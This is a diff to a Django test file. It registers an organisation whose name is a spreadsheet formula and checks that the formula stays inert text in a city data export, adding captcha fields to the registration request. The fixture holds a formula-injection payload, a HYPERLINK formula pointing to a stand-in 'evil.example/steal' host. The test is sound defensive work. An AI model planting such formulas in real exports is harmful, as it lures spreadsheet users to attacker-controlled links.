@@ -11,7 +11,7 @@ from openpyxl import load_workbook
 
 from conftest import credit_code_for
 from smedt.core.export import xlsx_response
-from smedt.core.tests.helpers import xlsx_rows
+from smedt.core.tests.helpers import solve_captcha, xlsx_rows
 
 FORMULA = '=HYPERLINK("http://evil.example/steal","点击查看")'
 
@@ -64,7 +64,8 @@ def test_text_that_looks_like_a_formula_stays_text():
 @pytest.mark.django_db
 def test_a_registered_name_cannot_plant_a_formula_in_the_city_export(api, city_admin):
     # given an anonymous visitor registers an organization named like a formula
-    res = api().post(
+    client = api()
+    res = client.post(
         "/api/orgs/register",
         {
             "org_name": FORMULA,
@@ -75,6 +76,8 @@ def test_a_registered_name_cannot_plant_a_formula_in_the_city_export(api, city_a
             "contact_phone": "13811112222",
             "username": "formula_co",
             "password": "Formula@2026pass",
+            "captcha_id": solve_captcha(client),
+            "captcha_answer": "ABCD",
         },
     )
     assert res.status_code == 201, res.content
